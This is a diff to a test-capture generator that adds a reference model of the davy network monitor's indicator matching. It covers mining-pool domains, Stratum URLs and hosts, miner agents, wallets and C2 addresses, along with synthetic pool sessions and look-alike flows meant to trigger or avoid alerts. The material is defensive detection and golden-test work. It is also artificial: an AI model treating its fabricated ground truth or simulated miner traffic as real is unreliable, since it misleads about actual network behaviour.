@@ -354,6 +354,55 @@ RULES["dns_linkage"] = {
                 "tcp_split, cname_overflow and flows_linked (zeros included)",
 }
 
+RULES["iocs"] = {
+    "scope": "pcaps/gen.py's reference model (RefIocs, RefIocFlow) of davy's indicator matching, "
+             "written from include/ioc.h, include/ioc_match.h and docs/signatures.md, and for "
+             "payload.stratum_url and stratum.host from the contract below; applied to the "
+             "captures with an iocs object (ioc_*.pcap), which tests/ioc_golden_test.py replays "
+             "with --iocs for each of iocs.feeds (the shipped iocs/ and the test feed "
+             "tests/data/test-iocs.txt). The model reads the plain feed format (directives, type "
+             "prefixes, fields, defaults by file name and type, first loaded wins) and stops on "
+             "what its feeds do not use",
+    "facts": "checked once per flow each, dir 0 = sent by the flow's source: at the flow's first "
+             "packet its dest_ip (dir 0) and src_ip (dir 1) against addresses and networks "
+             "(longest prefix), its dns_linked_name and dns_linked_cname (dir 0) against domains "
+             "(suffix at label boundaries); nDPI's host fact (dir 0: the DNS query name, TLS SNI, "
+             "HTTP Host) when nDPI's detection ends (see ndpi); the Stratum login's wallet part, "
+             "agent (whole word, any case) and host at the packet after which the Stratum model "
+             "has them (dir: the client's side), or at the flow's last packet when the flow's end "
+             "delivered them",
+    "stratum_url": "a stratum+tcp://, stratum+ssl://, stratum+tls:// or stratum2+tcp:// URL in "
+                   "the payload of one TCP or UDP packet (not across packets), among the first 64 "
+                   "packets with payload of each direction; its host (after any user:pass@, "
+                   "before :port or /) against mining-pool domains and addresses: ioc.matched "
+                   "payload.stratum_url, signature 4960106, direction and time of that packet",
+    "stratum_host": "the stratum object's host: mining.subscribe's params[2] from the client, or "
+                    "params[0] of client.reconnect from the server side (the first one seen), "
+                    "against mining-pool domains: ioc.matched stratum.host, signature 4960102, "
+                    "direction the client's side as for the other Stratum facts. client.reconnect "
+                    "is not Stratum evidence by itself in the model",
+    "signatures": "category c2: 4960105; an agent: 4960103; a wallet: 4960104; category "
+                  "mining-pool: 4960101 on dns.rrname, 4960106 on payload.stratum_url, else "
+                  "4960102; any other category 4960109. Port indicators never alert. The first "
+                  "matching fact of a signature in a flow is the alert (its time: the packet at "
+                  "which it was checked); no capture has two facts matching for one signature in "
+                  "one flow",
+    "ndpi": "nDPI 4.2's detection end, for the facts the captures match (the model stops on "
+            "others): a DNS flow ends it at the first response with answers; a TLS flow whose "
+            "server sends no certificate keeps it until the 24th packet (--ndpi-packets) or the "
+            "flow's end",
+    "manifest": "captures modelled with indicators have iocs: feeds (the --iocs arguments, from "
+                "the repository root), alerts (flow, signature_id, timestamp, direction, severity "
+                "from the indicator's: high 1, medium 2, low 3, ioc {indicator, type, feed, "
+                "category, severity, matched}, fact: the name or address that matched), "
+                "lookalikes (flows built to look like an indicator's and match none), "
+                "stratum_hosts (flow, host: the stratum object's host, where the model has one; "
+                "other flows' stratum objects have none) and stats (davy's stats.iocs: "
+                "indicators stored, duplicates not counted; files; bad_lines; matched.<where>, "
+                "the facts that matched a non-port indicator, alerting or not). These alerts are "
+                "not in the capture's alerts, which golden_test.py checks with --no-iocs",
+}
+
 MAC_CLIENT = bytes.fromhex("02000000000a")
 MAC_SERVER = bytes.fromhex("020000000001")  # the router / server side
 
@@ -522,6 +571,8 @@ class Cap:
         self.chop = 0            # bytes removed from the end of the file
         self.defrag_expect = None  # reassembly counters the builder means to cause
         self.dns_expect = None     # DNS linkage the builder means to cause (cap_dns_linkage)
+        self.iocs = False          # modelled with the indicator feeds IOC_FEEDS (ioc_* captures)
+        self.ioc_expect = None     # indicator alerts the builder means to cause (check_ioc_expect)
 
     def add(self, t, frame, expect="flow", caplen=None, iface=0, note=None, then=None):
         """t: seconds after T0. expect: flow | error | frag | unsupported.
@@ -992,6 +1043,7 @@ class Flow:
         self.next_update = ts + FLOW_UPDATE_US
         self.updates = []  # periodic flow records (reason "update")
         self.dns = None    # (dns_linked_name, dns_linked_cname or None): RefDnsLink
+        self.ioc = None    # RefIocFlow, for captures modelled with indicators
 
     def state(self):
         if self.closed:
@@ -1193,6 +1245,7 @@ V1, ETHSTRATUM, ETHPROXY, CRYPTONOTE = 1, 2, 3, 4
  K_CN_TENTATIVE, K_OTHER) = range(9)
 STRATUM_FIELDS = ("dialect", "role", "login", "wallet_type", "worker", "pass", "agent", "algo",
                   "rigid", "difficulty", "jobs", "submits", "accepted", "rejected")
+STRATUM_HOST_MAX = 256  # the host a miner names (RULES["iocs"]); the captures' hosts are short
 
 
 class JFloat:
@@ -1270,6 +1323,7 @@ class RefStratum:
         self.client_dir = -1
         self.login = self.worker = self.wtype = self.pw = self.agent = ""
         self.algo = self.rigid = self.difficulty = ""
+        self.host = ""  # the pool host the miner names (RULES["iocs"]); not in record()
         self.jobs = self.submits = self.accepted = self.rejected = 0
         self.messages = self.nonstratum = 0
         self.not_framed = False
@@ -1520,6 +1574,8 @@ class RefStratum:
             self._set_dialect(V1)
             if j_str(j_elem(params, 0)):
                 self.agent = cut(params[0], 128)
+            if j_str(j_elem(params, 2)) and not self.host:
+                self.host = cut(params[2], STRATUM_HOST_MAX)
             if isinstance(params, list) and any(self._es_marker(x) for x in params):
                 self._set_dialect(ETHSTRATUM)
             self._pending_add(idv, K_SUBSCRIBE, d)
@@ -1610,6 +1666,14 @@ class RefStratum:
             self._pending_add(idv, K_OTHER, d)
             self._client(d)
             return True
+        if m == "client.reconnect":
+            # the host the pool sends its miner to: taken from the server's
+            # side only; not evidence of Stratum by itself (no capture sends
+            # it before a dialect is known)
+            assert self.dialect, "client.reconnect before a dialect is known"
+            if self.client_dir >= 0 and d != self.client_dir and j_str(j_elem(params, 0)) \
+                    and not self.host:
+                self.host = cut(params[0], STRATUM_HOST_MAX)
         return False
 
     def _response(self, d, msg):
@@ -2101,10 +2165,412 @@ class RefDnsLink:
         return dict(self.st, flows_linked=self.linked)
 
 
+# --------------------------------------------------------------------------
+# Reference indicator matching (rules in RULES["iocs"]): the plain feed
+# format read into a set (include/ioc.h, iocs/README.md), its lookups, and
+# which indicator alerts a flow's facts make due, when and in which
+# direction (include/ioc_match.h, docs/signatures.md, and the contract of
+# the stratum URL and Stratum host facts in RULES["iocs"]). Written from
+# those contracts, not from davy's C code. The model reads only what its
+# feeds use and stops on anything else, rather than guess.
+
+REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+IOC_FEEDS = ("iocs/", "tests/data/test-iocs.txt")  # --iocs, in this order, from the repository
+IOC_TYPES = ("ip", "cidr", "subnet", "domain", "port", "ja3", "wallet", "agent", "url", "asn",
+             "image", "namespace")
+IOC_NAME_CATEGORIES = ("c2", "mining-pool", "miner-agent", "miner-port", "wallet")
+IOC_SEVERITY = {"low": "low", "medium": "medium", "high": "high", "1": "low", "2": "medium",
+                "3": "high"}
+IOC_ALERT_SEVERITY = {"high": 1, "medium": 2, "low": 3}
+SID_IOC_LOOKUP, SID_IOC_POOL, SID_IOC_AGENT, SID_IOC_WALLET, SID_IOC_C2, SID_IOC_URL, \
+    SID_IOC_OTHER = 4960101, 4960102, 4960103, 4960104, 4960105, 4960106, 4960109
+# ioc.matched, in the order ioc_match.h checks them when several come with one packet
+IOC_WHERE = ("dest_ip", "src_ip", "dns_linked", "dns_linked_cname", "dns.rrname", "tls.sni",
+             "http.hostname", "tls.ja3.hash", "stratum.login", "stratum.agent", "stratum.host",
+             "payload.stratum_url")
+STRATUM_URL_SCHEMES = (b"stratum+tcp://", b"stratum+ssl://", b"stratum+tls://", b"stratum2+tcp://")
+STRATUM_URL_PACKETS = 64  # packets with payload scanned per direction
+NDPI_PACKETS = 24  # --ndpi-packets default: packets nDPI sees before davy ends detection
+
+
+class RefIocs:
+    """An indicator set loaded from plain-format feeds (ioc.h FEED FILES),
+    with the lookups of ioc.h MATCHING."""
+
+    def __init__(self, paths):
+        self.by_key = {}      # (kind, normalised value) -> indicator: the first loaded wins
+        self.domains = {}     # name -> indicator
+        self.nets = {}        # (version, prefix) -> {network: indicator}
+        self.agents = []      # indicators, load order
+        self.wallets = {}
+        self.files = 0        # feed files read (no bad line: the model stops on one)
+        for p in paths:
+            full = os.path.join(REPO, p)
+            if os.path.isdir(full):
+                for n in sorted(os.listdir(full), key=lambda n: n.encode()):
+                    if not n.startswith(".") and not n.lower().startswith("readme") and \
+                            os.path.isfile(os.path.join(full, n)):
+                        self._file(os.path.join(full, n))
+            else:
+                self._file(full)
+
+    @staticmethod
+    def _directive(text, defaults, where):
+        i, n, kv = 0, len(text), {}
+        while i < n:
+            if text[i] in " \t":
+                i += 1
+                continue
+            eq = text.find("=", i)
+            if eq < 0:
+                raise SystemExit("%s: the model reads key=value directives only" % where)
+            key = text[i:eq]
+            if eq + 1 < n and text[eq + 1] == '"':
+                end = text.index('"', eq + 2)
+                val, i = text[eq + 2:end], end + 1
+            else:
+                end = eq + 1
+                while end < n and text[end] not in " \t":
+                    end += 1
+                val, i = text[eq + 1:end], end
+            key = "description" if key == "desc" else key
+            if key not in ("category", "severity", "source", "description", "type"):
+                raise SystemExit("%s: directive key %r (a bad line in davy; not in the model)"
+                                 % (where, key))
+            kv[key] = None if val in ("", "-") else val
+        defaults.update(kv)
+
+    def _file(self, path):
+        feed = os.path.splitext(os.path.basename(path))[0]
+        self.files += 1
+        with open(path, "rb") as fh:
+            data = fh.read()
+        if data.startswith(b"\xef\xbb\xbf"):
+            data = data[3:]
+        defaults, first = {}, True
+        for no, line in enumerate(data.decode("utf-8").split("\n"), 1):
+            where = "%s:%d" % (os.path.relpath(path, REPO), no)
+            line = line[:-1] if line.endswith("\r") else line
+            s = line.strip(" \t")
+            if first and s and not s.startswith("#@"):
+                if s.startswith("#fields") or s.startswith("#separator"):
+                    raise SystemExit("%s: a Zeek Intel feed; the model reads the plain format only"
+                                     % where)
+                first = False
+            if s.startswith("#@"):
+                self._directive(s[2:], defaults, where)
+                continue
+            if not s or s.startswith("#"):
+                continue
+            fields = [x.strip(" \t") for x in line.split("\t")]
+            if len(fields) > 5:
+                raise SystemExit("%s: more than five fields (a bad line)" % where)
+            fields = [None if x in ("", "-") else x for x in fields] + [None] * (5 - len(fields))
+            value, source, category, desc, sev = fields
+            self._add(feed, where, value, source, category, desc, sev, defaults)
+
+    @staticmethod
+    def _detect(v, where):
+        try:
+            ipaddress.ip_address(v)
+            return "ip"
+        except ValueError:
+            pass
+        if "/" in v and "://" not in v:
+            try:
+                ipaddress.ip_network(v, strict=False)
+                return "cidr"
+            except ValueError:
+                pass
+        if len(v) == 32 and is_hex(v):
+            return "ja3"
+        if wallet_type(v):
+            return "wallet"
+        if v.isdigit() and 1 <= int(v) <= 65535:
+            return "port"
+        if "://" in v:
+            return "url"
+        if "." in v:
+            return "domain"
+        raise SystemExit("%s: no type detected for %r (a bad line)" % (where, v))
+
+    def _add(self, feed, where, value, source, category, desc, sev, dflt):
+        typ = None
+        head, sep, rest = value.partition(":")
+        if sep and head.lower() in IOC_TYPES:
+            typ, value = head.lower(), rest.strip(" \t")
+        typ = typ or (dflt.get("type") or "").lower() or self._detect(value, where)
+        typ = "cidr" if typ == "subnet" else typ
+        if typ in ("ip", "cidr"):
+            net = ipaddress.ip_network(value, strict=False)
+            assert net.prefixlen > 0, where
+            assert not (net.version == 6 and net.network_address.ipv4_mapped), where
+            if "/" in value:
+                assert net.prefixlen < net.max_prefixlen, \
+                    "%s: a /32 or /128: whether it is stored as ip or cidr is not modelled" % where
+                typ, norm = "cidr", str(net)
+            else:
+                typ, norm = "ip", str(net.network_address)
+            key = ("net", net.version, int(net.network_address), net.prefixlen)
+        elif typ == "domain":
+            norm = value.lower()
+            norm = norm[:-1] if norm.endswith(".") else norm
+            norm = norm[2:] if norm.startswith("*.") else norm[1:] if norm.startswith(".") else norm
+            labels = norm.split(".")
+            assert all(1 <= len(x) <= 63 and all(c.isalnum() or c in "_-" for c in x)
+                       for x in labels) and not labels[-1].isdigit(), where
+            key = ("domain", norm)
+        elif typ == "agent":
+            norm, key = value, ("agent", value.lower())
+        elif typ == "wallet":
+            norm = value.lower() if wallet_type(value) == "ethereum" else value
+            key = ("wallet", norm)
+        elif typ == "port":
+            norm, key = str(int(value)), ("port", int(value))
+        else:
+            raise SystemExit("%s: %s indicators are not in the model" % (where, typ))
+        if category is None:
+            category = dflt.get("category")
+        if category is None:
+            category = next((c for c in IOC_NAME_CATEGORIES if feed == c or any(
+                feed.startswith(c + s) for s in "-_.")), None)
+        if category is None:
+            category = {"port": "miner-port", "agent": "miner-agent", "wallet": "wallet"}.get(
+                typ, "unknown")
+        sev = sev or dflt.get("severity") or ("low" if typ == "port" else "medium")
+        ioc = {"indicator": norm, "type": typ, "feed": feed, "category": category.lower(),
+               "severity": IOC_SEVERITY[sev.lower()],
+               "source": source or dflt.get("source") or "",
+               "description": desc or dflt.get("description") or ""}
+        if key in self.by_key:
+            return  # a duplicate: the first one loaded is kept
+        self.by_key[key] = ioc
+        if typ in ("ip", "cidr"):
+            self.nets.setdefault((net.version, net.prefixlen), {})[net] = ioc
+        elif typ == "domain":
+            self.domains[norm] = ioc
+        elif typ == "agent":
+            self.agents.append(ioc)
+        elif typ == "wallet":
+            self.wallets[norm] = ioc
+
+    # -- lookups (ioc.h MATCHING)
+    def find_domain(self, name):
+        labels = name.lower().rstrip(".").split(".") if name else []
+        for i in range(len(labels)):
+            ioc = self.domains.get(".".join(labels[i:]))
+            if ioc:
+                return ioc
+        return None
+
+    def find_ip(self, addr):
+        ip = ipaddress.ip_address(addr)
+        for ver, plen in sorted(self.nets, key=lambda k: -k[1]):
+            if ver == ip.version:
+                ioc = self.nets[(ver, plen)].get(ipaddress.ip_network((ip, plen), strict=False))
+                if ioc:
+                    return ioc
+        return None
+
+    def find_host(self, host):
+        """A host named in traffic: an address literal or a name."""
+        try:
+            return self.find_ip(host)
+        except ValueError:
+            return self.find_domain(host)
+
+    def find_agent(self, s):
+        low = s.lower()
+        for ioc in self.agents:
+            pat = ioc["indicator"].lower()
+            at = low.find(pat)
+            while at >= 0:
+                before = low[at - 1] if at else ""
+                after = low[at + len(pat)] if at + len(pat) < len(low) else ""
+                if not (before.isascii() and before.isalnum()) and \
+                        not (after.isascii() and after.isalnum()):
+                    return ioc
+                at = low.find(pat, at + 1)
+        return None
+
+    def find_wallet(self, s):
+        q = s.lower() if wallet_type(s) == "ethereum" else s
+        return self.wallets.get(q) or self.wallets.get(q[:wallet_part(q)])
+
+
+def ioc_signature(ioc, where):
+    """ioc_match.h: which signature an indicator makes due."""
+    if ioc["category"] == "c2":
+        return SID_IOC_C2
+    if ioc["type"] == "agent":
+        return SID_IOC_AGENT
+    if ioc["type"] == "wallet":
+        return SID_IOC_WALLET
+    if ioc["category"] == "mining-pool":
+        return {"dns.rrname": SID_IOC_LOOKUP, "payload.stratum_url": SID_IOC_URL}.get(
+            where, SID_IOC_POOL)
+    return SID_IOC_OTHER
+
+
+def stratum_urls(payload):
+    """The hosts of the stratum URLs in one packet's payload, in order."""
+    hosts, low = [], payload.lower()
+    for scheme in STRATUM_URL_SCHEMES:
+        assert low.count(scheme) == payload.count(scheme), "an upper-case scheme: not modelled"
+    at = 0
+    while True:
+        hits = [(payload.find(s, at), s) for s in STRATUM_URL_SCHEMES if payload.find(s, at) >= 0]
+        if not hits:
+            return hosts
+        pos, scheme = min(hits)
+        i = end = pos + len(scheme)
+        while end < len(payload) and payload[end:end + 1] not in b"/?#\"' \t\r\n<>":
+            end += 1
+        auth = payload[i:end].decode("ascii")
+        host = auth.rpartition("@")[2]
+        assert not host.startswith("["), "an IPv6 literal in a stratum URL: not modelled"
+        hosts.append(host.partition(":")[0].lower())
+        at = end
+
+
+def tls_sni(payload):
+    """The server name of a TLS ClientHello at the start of payload, "" when
+    it has none, None when payload is not a ClientHello."""
+    if len(payload) < 9 or payload[0] != 0x16 or payload[5] != 1:
+        return None
+    p = 9 + 2 + 32
+    p += 1 + payload[p]                  # session id
+    p += 2 + u16(payload, p)             # cipher suites
+    p += 1 + payload[p]                  # compression methods
+    end = p + 2 + u16(payload, p)
+    p += 2
+    while p + 4 <= end:
+        typ, n = u16(payload, p), u16(payload, p + 2)
+        if typ == 0:                     # server_name: list length, type 0, name length, name
+            return payload[p + 9:p + 9 + u16(payload, p + 7)].decode("ascii").lower()
+        p += 4 + n
+    return ""
+
+
+def http_host(payload):
+    """The Host header of an HTTP request at the start of payload, or None."""
+    if not payload.startswith((b"GET ", b"POST ", b"HEAD ", b"PUT ")):
+        return None
+    for line in payload.split(b"\r\n\r\n")[0].split(b"\r\n")[1:]:
+        k, _, v = line.partition(b":")
+        if k.strip().lower() == b"host":
+            return v.strip().decode("ascii").lower()
+    return ""
+
+
+class RefIocFlow:
+    """One flow's facts against the set (ioc_match.h): each fact is looked
+    up once, at the packet that offers it; the first match of a signature
+    is the one reported. dir 0 = from the flow's source."""
+
+    def __init__(self, iocs, f, ts):
+        self.iocs, self.f = iocs, f
+        self.facts = []          # (ts, IOC_WHERE index, where, dir, indicator, fact)
+        self.host = None         # nDPI's host fact: (where, name) once seen
+        self.host_due = None     # its match, checked when nDPI's detection ends
+        self.ndpi_pkts = 0       # packets given to nDPI
+        self.stratum_done = set()
+        self.stratum_host = ""   # the stratum object's host, once known
+        self.payload_pkts = [0, 0]
+        self._fact(ts, "dest_ip", 0, iocs.find_ip(f.dst), f.dst)
+        self._fact(ts, "src_ip", 1, iocs.find_ip(f.src), f.src)
+        if f.dns:
+            self._fact(ts, "dns_linked", 0, iocs.find_domain(f.dns[0]), f.dns[0])
+            if f.dns[1]:
+                self._fact(ts, "dns_linked_cname", 0, iocs.find_domain(f.dns[1]), f.dns[1])
+
+    def _fact(self, ts, where, d, ioc, value):
+        if ioc is not None and ioc["type"] != "port":
+            if where in ("payload.stratum_url", "stratum.host"):
+                assert ioc["category"] == "mining-pool", \
+                    "%s names a %s indicator: the contract says pools only" \
+                    % (where, ioc["category"])
+            self.facts.append((ts, IOC_WHERE.index(where), where, d, ioc, value))
+
+    def _host_checked(self, ts):
+        if self.host_due:
+            self._fact(ts, *self.host_due)
+            self.host_due = None
+
+    def packet(self, d, ts, proto, l4):
+        payload = l4[(l4[12] >> 4) * 4:] if proto == "TCP" else l4[8:] if proto == "UDP" else b""
+        self.ndpi_pkts += 1
+        if payload and self.payload_pkts[d] < STRATUM_URL_PACKETS:
+            self.payload_pkts[d] += 1
+            for host in stratum_urls(payload):
+                self._fact(ts, "payload.stratum_url", d, self.iocs.find_host(host), host)
+        if payload and d == 0 and self.host is None:
+            fact = None
+            if proto == "UDP" and self.f.dport == 53:
+                fact = ("dns.rrname", dns_parse(payload)[0])
+            elif proto == "TCP" and tls_sni(payload) is not None:
+                fact = ("tls.sni", tls_sni(payload))
+            elif proto == "TCP" and http_host(payload) is not None:
+                fact = ("http.hostname", http_host(payload))
+            if fact:
+                self.host = fact
+                ioc = self.iocs.find_domain(fact[1]) if fact[1] else None
+                if ioc:
+                    if fact[0] == "http.hostname":
+                        raise SystemExit("an HTTP Host matching an indicator: when nDPI ends "
+                                         "HTTP detection is not modelled")
+                    self.host_due = (fact[0], 0, ioc, fact[1])
+        if self.host_due and self.host_due[0] == "dns.rrname" and d == 1 and proto == "UDP" \
+                and len(payload) >= 12 and payload[2] & 0x80 and u16(payload, 6):
+            self._host_checked(ts)   # nDPI ends DNS detection at a response with answers
+        if self.host_due and self.host_due[0] == "tls.sni" and d == 1 and payload[:1] == b"\x16":
+            assert payload[5] == 2 and len(payload) == 5 + u16(payload, 3), \
+                "a TLS server flight beyond a lone ServerHello (a certificate): not modelled"
+        if self.ndpi_pkts == NDPI_PACKETS:
+            self._host_checked(ts)   # --ndpi-packets: detection ends
+
+    def stratum(self, ts, parser):
+        """After a packet (or the flow's end) given to the Stratum model."""
+        if parser is None or not parser.dialect:
+            return
+        d = parser.client_dir if parser.client_dir >= 0 else 0
+        for where, value, find in (("stratum.login", parser.login, self.iocs.find_wallet),
+                                   ("stratum.agent", parser.agent, self.iocs.find_agent),
+                                   ("stratum.host", parser.host, self.iocs.find_domain)):
+            if value and where not in self.stratum_done:
+                self.stratum_done.add(where)
+                if where == "stratum.host":
+                    self.stratum_host = value
+                self._fact(ts, where, d, find(value), value)
+
+    def finish(self, ts, parser):
+        """The flow ends (after its Stratum model read what it held)."""
+        self.stratum(ts, parser)
+        self._host_checked(ts)
+
+    def alerts(self):
+        """The indicator alerts: the first matching fact of each signature."""
+        out, by_sid = [], {}
+        for ts, _, where, d, ioc, value in sorted(self.facts, key=lambda x: x[:2]):
+            sid = ioc_signature(ioc, where)
+            assert sid not in by_sid, "a flow where two facts match for one signature (%s, %s)" \
+                % (by_sid.get(sid), where)
+            by_sid[sid] = where
+            out.append({"flow": self.f.key_fields(), "signature_id": sid, "timestamp": ts / 1e6,
+                        "direction": "to_client" if d else "to_server",
+                        "severity": IOC_ALERT_SEVERITY[ioc["severity"]],
+                        "ioc": {"indicator": ioc["indicator"], "type": ioc["type"],
+                                "feed": ioc["feed"], "category": ioc["category"],
+                                "severity": ioc["severity"], "matched": where},
+                        "fact": value})
+        return out
+
+
 KIND_NAMES = {"error": "decode_error", "frag": "fragment", "unsupported": "unsupported"}
 
 
-def truth(cap):
+def truth(cap, iocs=None):
+    """The ground truth of cap; with iocs (a RefIocs), its indicator alerts too."""
     recs = cap.complete if cap.complete is not None else cap.recs
     counts = {"error": 0, "frag": 0, "unsupported": 0, "too_many_layers": 0}
     table, done, unattributed = {}, [], []
@@ -2161,29 +2627,33 @@ def truth(cap):
         f = table.get(key)
         if f is not None and r.ts_us - f.end > f.timeout_us():
             f.reason = "timeout"
-            if f.l7:
-                f.l7.finish(f.end)
+            flow_finish(f)
             done.append(f)
             f = None
         if f is None:
             f = table[key] = Flow(d, r.ts_us, i)
             f.dns = dnsl.lookup(f, r.ts_us)
+            if iocs is not None:
+                f.ioc = RefIocFlow(iocs, f, r.ts_us)
         toclient = f.update(d, r.ts_us, wirelen)
         if f.proto == "TCP":
             if f.l7 is None:
                 f.l7 = FlowL7(reasm)
             f.l7.packet(toclient, r.ts_us, d.l4)
+        if f.ioc:
+            f.ioc.packet(toclient, r.ts_us, d.proto, d.l4)
+            f.ioc.stratum(r.ts_us, f.l7.parser if f.l7 else None)
         dnsl.packet(d, clock)  # its links reach the workers after the packet
     last = recs[-1].ts_us if recs else 0
     for f in table.values():
         gap = last - f.end
         assert gap != f.timeout_us(), "flow exactly on a timeout boundary"
         f.reason = "timeout" if gap > f.timeout_us() else "shutdown"
-        if f.l7:
-            f.l7.finish(f.end)
+        flow_finish(f)
         done.append(f)
     done.sort(key=lambda f: (f.start, f.idx))
     alerts, updates, candidates = [], [], 0
+    ioc_alerts = [a for f in done if f.ioc for a in f.ioc.alerts()]
     for f in done:
         updates += f.updates
         if not f.l7:
@@ -2215,7 +2685,19 @@ def truth(cap):
             "alerts": alerts,
             "reassembly": reasm if candidates else None,
             "updates": updates,
-            "dns_linkage": dnsl.stats()}
+            "dns_linkage": dnsl.stats(),
+            "ioc_alerts": ioc_alerts if iocs is not None else None,
+            "stratum_hosts": [{"flow": f.key_fields(), "host": f.ioc.stratum_host}
+                              for f in done if f.ioc and f.ioc.stratum_host],
+            "ioc_matched": collections.Counter(x[2] for f in done if f.ioc for x in f.ioc.facts)}
+
+
+def flow_finish(f):
+    """A flow ends: what its Stratum model holds is read, at its last packet."""
+    if f.l7:
+        f.l7.finish(f.end)
+    if f.ioc:
+        f.ioc.finish(f.end, f.l7.parser if f.l7 else None)
 
 
 # --------------------------------------------------------------------------
@@ -3698,8 +4180,9 @@ def jl(obj, v=0, rot=0):
 
 
 # ---- Stratum v1 (cgminer / bfgminer and a pool like ckpool)
-def v1_script(v, login, agent, diff, tag, reject=False, extra_jobs=0):
-    """Subscribe, authorize, difficulty, notify, submits; v: style."""
+def v1_script(v, login, agent, diff, tag, reject=False, extra_jobs=0, sub_params=None):
+    """Subscribe, authorize, difficulty, notify, submits; v: style.
+    sub_params: mining.subscribe's params (default [agent])."""
     r = v  # key order follows the style
     e1 = phex(tag + "/en1", 8)
     sub = [["mining.set_difficulty", phex(tag + "/sd", 32)], ["mining.notify", phex(tag + "/sn", 32)]]
@@ -3715,7 +4198,8 @@ def v1_script(v, login, agent, diff, tag, reject=False, extra_jobs=0):
                    "params": [login, j, phex(tag + j + "/en2", 8), "65920%03x" % 0x90,
                               phex(tag + j + "/nonce", 8)]}, v, r)
     sends = [
-        ("c", 0.0, [jl({"id": 1, "method": "mining.subscribe", "params": [agent]}, v, r)]),
+        ("c", 0.0, [jl({"id": 1, "method": "mining.subscribe", "params": sub_params or [agent]},
+                       v, r)]),
         ("s", 0.025, [jl({"id": 1, "result": [sub, e1, 4], "error": None}, v, r)]),
         ("c", 0.0005, [jl({"id": 2, "method": "mining.authorize", "params": [login, "x"]}, v, r)]),
     ]
@@ -4601,6 +5085,249 @@ def cap_dns_linkage():
     return cap
 
 
+# --------------------------------------------------------------------------
+# Indicators (rules in RULES["iocs"]): captures replayed with the shipped
+# feeds (iocs/: pool domains, miner agents) and the test feed
+# tests/data/test-iocs.txt (C2 addresses, network and domain), each with
+# look-alikes that must raise nothing. Pods are 10.244.2x.y, the cluster's
+# DNS service 10.96.0.10.
+
+IOC_RESOLVER = "10.96.0.10"
+
+
+def ioc_lookup(rows, t, cli, cport, qid, qname, addr, ttl=600):
+    """A pod's A query over UDP and its answer (one A record) 12 ms later."""
+    q = dns_wire(qid, DNS_QUERY, [(qname, "A")], [])
+    a = dns_wire(qid, DNS_RESPONSE, [(qname, "A")], [(qname, "A", ttl, addr)])
+    rows.append((t, True, udp(cli, cport, IOC_RESOLVER, 53, q, ipid=qid & 0xFFFF)))
+    rows.append((t + 0.012, False, udp(IOC_RESOLVER, 53, cli, cport, a,
+                                       ipid=(qid + 0x100) & 0xFFFF)))
+
+
+def tcp_session(rows, t, c, sends, rtt=0.020):
+    """Handshake, the sends (from_client, payload), each acknowledged by the
+    peer unless the next send is its answer, FIN both ways."""
+    seq = [(0.0, True, c.syn()), (rtt, False, c.synack()), (rtt + 0.0001, True, c.ack(True))]
+    at = rtt + 0.0002
+    for i, (fc, pay) in enumerate(sends):
+        seq.append((at, fc, c.data(fc, pay)))
+        nxt = sends[i + 1] if i + 1 < len(sends) else None
+        if nxt is None or nxt[0] == fc:
+            seq.append((at + rtt, not fc, c.ack(not fc)))
+            at += 0.0001
+        at += rtt + 0.001
+    seq += [(at + 0.1, True, c.fin(True)), (at + 0.1 + rtt, False, c.fin(False)),
+            (at + 0.1001 + rtt, True, c.ack(True))]
+    rows += [(t + dt, fc, l3) for dt, fc, l3 in seq]
+
+
+def tls_record(ctype, body):
+    return struct.pack("!BHH", ctype, 0x0303, len(body)) + body
+
+
+def tls_server_hello(label):
+    """A deterministic TLS 1.2 ServerHello (ECDHE-RSA-AES128-GCM-SHA256)."""
+    from scapy.layers.tls.all import (TLS, TLSServerHello, TLS_Ext_RenegotiationInfo,
+                                      TLS_Ext_SupportedPointFormat)
+    sh = TLSServerHello(version=0x0303, gmt_unix_time=0x65920081, random_bytes=prng(label, 28),
+                        sid=b"", cipher=0xc02f, comp=0,
+                        ext=[TLS_Ext_RenegotiationInfo(renegotiated_connection=b""),
+                             TLS_Ext_SupportedPointFormat(ecpl=[0])])
+    return raw(TLS(msg=[sh], version=0x0303))
+
+
+def tls_session(rows, t, c, sni, label):
+    """ClientHello (sni None: no server_name extension), ServerHello, then
+    application data both ways, FIN both ways."""
+    tcp_session(rows, t, c, [(True, tls_client_hello(sni)), (False, tls_server_hello(label)),
+                             (True, tls_record(0x17, prng(label + "/c1", 180))),
+                             (False, tls_record(0x17, prng(label + "/s1", 620))),
+                             (True, tls_record(0x17, prng(label + "/c2", 96)))])
+
+
+def cap_ioc_pool_tls():
+    """Pool sessions over TLS, with and without SNI, and their look-alikes."""
+    cap = Cap("ioc_pool_tls.pcap", LT_ETH,
+              "indicators, pools over TLS: a pod looks up gulf.moneroocean.stream (A 203.0.113.41, "
+              "TTL 600) then opens TLS to it on 443 with no SNI (as XMRig --tls: ServerHello, "
+              "application data, FIN): caught by its dns_linked_name; TLS with SNI "
+              "pool.supportxmr.com to 203.0.113.42 (never resolved). Look-alikes, no indicator "
+              "alert: a lookup of notsupportxmr.com then TLS without SNI to its address "
+              "(linked, not matched), TLS with SNI supportxmr.com.example.net and "
+              "notmoneroocean.stream")
+    cap.iocs = True
+    pod, rows = "10.244.20.10", []
+    ioc_lookup(rows, 0.0, pod, 45000, 0x6100, "gulf.moneroocean.stream", "203.0.113.41")
+    tls_session(rows, 0.5, Tcp(pod, 45001, "203.0.113.41", 443, 0x6110000, 0x6120000),
+                None, "ioc_pool_tls/1")
+    tls_session(rows, 1.5, Tcp(pod, 45002, "203.0.113.42", 443, 0x6130000, 0x6140000),
+                "pool.supportxmr.com", "ioc_pool_tls/2")
+    ioc_lookup(rows, 2.5, pod, 45003, 0x6103, "notsupportxmr.com", "203.0.113.43")
+    tls_session(rows, 3.0, Tcp(pod, 45004, "203.0.113.43", 443, 0x6150000, 0x6160000),
+                None, "ioc_pool_tls/3")
+    tls_session(rows, 4.0, Tcp(pod, 45005, "203.0.113.44", 443, 0x6170000, 0x6180000),
+                "supportxmr.com.example.net", "ioc_pool_tls/4")
+    tls_session(rows, 4.5, Tcp(pod, 45006, "203.0.113.45", 443, 0x6190000, 0x61A0000),
+                "notmoneroocean.stream", "ioc_pool_tls/5")
+    rows.sort(key=lambda r: r[0])
+    link = eth_link()
+    for t, fc, l3 in rows:
+        cap.add(t, link(l3, fc))
+    cap.ioc_expect = {
+        ("203.0.113.41", 443): [(SID_IOC_POOL, "dns_linked", "moneroocean.stream")],
+        ("203.0.113.42", 443): [(SID_IOC_POOL, "tls.sni", "supportxmr.com")],
